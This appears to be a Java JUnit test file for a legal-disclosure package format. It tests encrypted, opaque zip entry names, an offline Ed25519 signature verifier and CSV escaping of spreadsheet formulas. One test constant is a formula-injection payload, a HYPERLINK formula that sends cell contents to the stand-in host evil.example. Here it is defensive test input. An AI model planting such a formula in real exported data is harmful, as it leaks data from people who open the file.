package org.custodian.disclosure;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;

import com.tngtech.archunit.core.importer.ClassFileImporter;
import com.tngtech.archunit.core.importer.ImportOption;
import net.lingala.zip4j.ZipFile;
import net.lingala.zip4j.model.FileHeader;
import org.custodian.disclosure.format.PublicKeys;
import org.custodian.disclosure.format.VerifyPackage;
import org.custodian.shared.DataCategory;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.slf4j.LoggerFactory;

import static com.tngtech.archunit.lang.syntax.ArchRuleDefinition.classes;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * The package format without Spring or a database: opaque names, spreadsheet-safe CSV,
 * and an offline verifier that rejects a changed byte anywhere and writes nothing.
 */
class PackageFormatTests {

	static final String FORMULA = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";

	@TempDir
	Path temp;

	private KeyPair pair;

	private Path zip;

	private Path passphrase;

	private String publicKey;

	@BeforeEach
	void build() throws Exception {
		this.pair = KeyPairGenerator.getInstance("Ed25519").generateKeyPair();
		this.publicKey = Base64.getEncoder().encodeToString(this.pair.getPublic().getEncoded());
		this.zip = this.temp.resolve("package.zip");
		this.passphrase = this.temp.resolve("passphrase.txt");
		Files.writeString(this.passphrase, "ABCD-EFGH-JKLM-NPQR-STUV-WXYZ\n");
		PackageBuilder.Spec spec = new PackageBuilder.Spec("CR-2026-000042", "request-42", "Metro Police",
				Set.of(DataCategory.BASIC_SUBSCRIBER, DataCategory.CONTENT), LocalDate.of(2020, 1, 1),
				LocalDate.of(2020, 6, 30),
				List.of(new PackageBuilder.Target("USERNAME", "wire.fraudster", "acct-secret-1"),
						new PackageBuilder.Target("EMAIL", "nobody@example.org", null),
						new PackageBuilder.Target("USERNAME", "london.trader", "acct-secret-2")),
				Instant.parse("2026-11-24T10:15:31Z"));
		SigningKeys.Signer signer = new SigningKeys.Signer(PublicKeys.keyId(this.pair.getPublic()),
				this.pair.getPublic(), this.pair.getPrivate());
		try (OutputStream out = Files.newOutputStream(this.zip)) {
			PackageBuilder.build(spec, new Records(), "ABCD-EFGH-JKLM-NPQR-STUV-WXYZ".toCharArray(), signer, out,
					new PackageBuilder.Settings(1, 2, this.temp.resolve("package.zip.part1")));
		}
	}

	@Test
	void namesRevealNoAccountOrCategoryAndOpenWithAnIndependentReader() throws Exception {
		List<String> names = new ArrayList<>();
		String csv;
		try (ZipFile file = new ZipFile(this.zip.toFile(), "ABCD-EFGH-JKLM-NPQR-STUV-WXYZ".toCharArray())) {
			for (FileHeader header : file.getFileHeaders()) {
				assertThat(header.isEncrypted()).as(header.getFileName()).isTrue();
				names.add(header.getFileName());
			}
			try (InputStream in = file.getInputStream(file.getFileHeader("targets/01/part-02.csv"))) {
				csv = new String(in.readAllBytes(), StandardCharsets.UTF_8);
			}
		}
		assertThat(names).containsExactly("targets/01/part-01.json", "targets/01/part-01.csv",
				"targets/01/part-02.json", "targets/01/part-02.csv", "targets/03/part-01.json",
				"targets/03/part-01.csv", "targets/03/part-02.json", "targets/03/part-02.csv", "README.txt",
				"manifest.json", "manifest.sig", "records-certificate.pdf");
		byte[] raw = Files.readAllBytes(this.zip);
		String latin = new String(raw, StandardCharsets.ISO_8859_1);
		assertThat(latin).doesNotContain("acct-secret", "wire.fraudster", "CONTENT", "BASIC_SUBSCRIBER");
		assertThat(csv).contains("\"'" + FORMULA.replace("\"", "\"\"") + "\"")
			.contains("\"'+85291234567\"")
			.contains("\"'-1\"")
			.contains("\"'@cmd\"")
			.contains("plain text");
		assertThat(csv.lines()).noneMatch((line) -> line.startsWith("=") || line.contains(",=") || line.contains(",+"));
	}

	@Test
	void theOfflineVerifierAcceptsTheIntactPackageWithTheBase64KeyOrTheJwkSet() throws Exception {
		assertThat(verify(this.zip, this.publicKey)).startsWith("0 Package VALID: CR-2026-000042, 9 files");
		Path jwks = this.temp.resolve("jwks.json");
		Files.writeString(jwks, "{\"keys\":[{\"kty\":\"OKP\",\"crv\":\"Ed25519\",\"x\":\""
				+ PublicKeys.jwk(this.pair.getPublic()).get("x") + "\",\"kid\":\"k\"}]}");
		assertThat(verify(this.zip, jwks.toString())).startsWith("0 Package VALID");
		String other = Base64.getEncoder()
			.encodeToString(KeyPairGenerator.getInstance("Ed25519").generateKeyPair().getPublic().getEncoded());
		assertThat(verify(this.zip, other)).startsWith("1 Package REJECTED").contains("not among the keys given");
	}

	@Test
	void theOfflineVerifierRejectsAChangedByteAnywhere() throws Exception {
		byte[] bytes = Files.readAllBytes(this.zip);
		int directory = lastIndexOf(bytes, new byte[] { 0x50, 0x4b, 0x01, 0x02 }, bytes.length);
		int firstDirectory = indexOf(bytes, new byte[] { 0x50, 0x4b, 0x01, 0x02 });
		List<Integer> positions = new ArrayList<>(List.of(0, 4, 6, 8, 10, 12, 14, 18, 22, 26, 28, 30, 40, 45, 50,
				// the first entry's salt, password check, ciphertext and authentication
				// code
				52, 68, 69, 70, 100, firstDirectory - 1, firstDirectory, firstDirectory + 16, firstDirectory + 42,
				directory, directory + 30, bytes.length - 22, bytes.length - 12, bytes.length - 6, bytes.length - 2,
				bytes.length - 1));
		for (int i = 0; i < bytes.length; i += 257) {
			positions.add(i);
		}
		for (int position : positions) {
			byte[] altered = bytes.clone();
			altered[position] ^= 0x01;
			Path file = this.temp.resolve("altered.zip");
			Files.write(file, altered);
			assertThat(verify(file, this.publicKey)).as("byte %d of %d changed", position, bytes.length)
				.startsWith("1 Package REJECTED");
		}
		Path longer = this.temp.resolve("longer.zip");
		Files.write(longer, bytes);
		Files.write(longer, new byte[] { 0 }, java.nio.file.StandardOpenOption.APPEND);
		assertThat(verify(longer, this.publicKey)).startsWith("1 Package REJECTED");
	}

	@Test
	void theVerifierJarRunsOnTheJdkAloneAndWritesNothing() throws Exception {
		Path work = Files.createDirectory(this.temp.resolve("agency"));
		Files.copy(this.zip, work.resolve("package.zip"));
		Files.copy(this.passphrase, work.resolve("passphrase.txt"));
		List<Path> before = list(work);
		// target/classes without any library: no Spring, no database driver, no zip4j
		ProcessBuilder process = new ProcessBuilder(Path.of(System.getProperty("java.home"), "bin", "java").toString(),
				"-cp", Path.of("target", "classes").toAbsolutePath().toString(), VerifyPackage.class.getName(),
				"package.zip", "--passphrase-file", "passphrase.txt", "--public-key", this.publicKey)
			.directory(work.toFile())
			.redirectErrorStream(true);
		long start = System.nanoTime();
		Process running = process.start();
		String output = new String(running.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
		assertThat(running.waitFor(60, TimeUnit.SECONDS)).isTrue();
		long millis = (System.nanoTime() - start) / 1_000_000;
		LoggerFactory.getLogger(PackageFormatTests.class).info("verifier JVM: {} ms, {}", millis, output.strip());
		assertThat(running.exitValue()).as(output).isZero();
		assertThat(output).startsWith("Package VALID: CR-2026-000042");
		assertThat(list(work)).isEqualTo(before);
		assertThat(work.resolve("data")).doesNotExist();
	}

	@Test
	void theFormatNeedsNothingButTheJdk() {
		classes().that()
			.resideInAPackage("org.custodian.disclosure.format..")
			.should()
			.onlyDependOnClassesThat()
			.resideInAnyPackage("java..", "javax..", "org.custodian.disclosure.format..")
			.because("the verifier jar holds these classes and nothing else")
			.check(new ClassFileImporter().withImportOption(ImportOption.Predefined.DO_NOT_INCLUDE_TESTS)
				.importPackages("org.custodian.disclosure.format"));
	}

	@Test
	void neutralisesCellsThatASpreadsheetWouldRunAsFormulas() {
		assertThat(SpreadsheetCsv.cell(FORMULA))
			.isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1," + "\"\"Click\"\")\"");
		assertThat(SpreadsheetCsv.cell("+1")).isEqualTo("\"'+1\"");
		assertThat(SpreadsheetCsv.cell("-1")).isEqualTo("\"'-1\"");
		assertThat(SpreadsheetCsv.cell("@SUM(A1)")).isEqualTo("\"'@SUM(A1)\"");
		assertThat(SpreadsheetCsv.cell("\tx")).isEqualTo("\"'\tx\"");
		assertThat(SpreadsheetCsv.cell("\rx")).isEqualTo("\"'\rx\"");
		assertThat(SpreadsheetCsv.cell("a, b")).isEqualTo("\"a, b\"");
		assertThat(SpreadsheetCsv.cell("a=b")).isEqualTo("a=b");
	}

	private String verify(Path file, String key) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		int code = VerifyPackage.run(
				List.of(file.toString(), "--passphrase-file", this.passphrase.toString(), "--public-key", key),
				new PrintStream(out, true, StandardCharsets.UTF_8));
		return code + " " + out.toString(StandardCharsets.UTF_8);
	}

	private static List<Path> list(Path directory) throws IOException {
		try (Stream<Path> files = Files.walk(directory)) {
			return files.sorted().toList();
		}
	}

	private static int indexOf(byte[] bytes, byte[] pattern) {
		return lastIndexOf(bytes, pattern, -1);
	}

	/** The last occurrence before {@code before}, or the first one when before is -1. */
	private static int lastIndexOf(byte[] bytes, byte[] pattern, int before) {
		int found = -1;
		for (int i = 0; i + pattern.length <= bytes.length && (before < 0 || i < before); i++) {
			if (java.util.Arrays.equals(bytes, i, i + pattern.length, pattern, 0, pattern.length)) {
				if (before < 0) {
					return i;
				}
				found = i;
			}
		}
		return found;
	}

	/** Two categories per account, with values a spreadsheet would run. */
	private static final class Records implements RecordSource {

		@Override
		public List<String> fields(DataCategory category) {
			return List.of("phone", "body");
		}

		@Override
		public Stream<DataRecord> export(String accountId, DataCategory category, LocalDate from, LocalDate to) {
			List<DataRecord> records = new ArrayList<>();
			for (String body : List.of(FORMULA, "-1", "@cmd", "plain text")) {
				Map<String, String> fields = new LinkedHashMap<>();
				fields.put("phone", "+85291234567");
				fields.put("body", body);
				records.add(new DataRecord("post", Instant.parse("2020-02-01T00:00:00Z"), fields));
			}
			return records.stream();
		}

	}

}
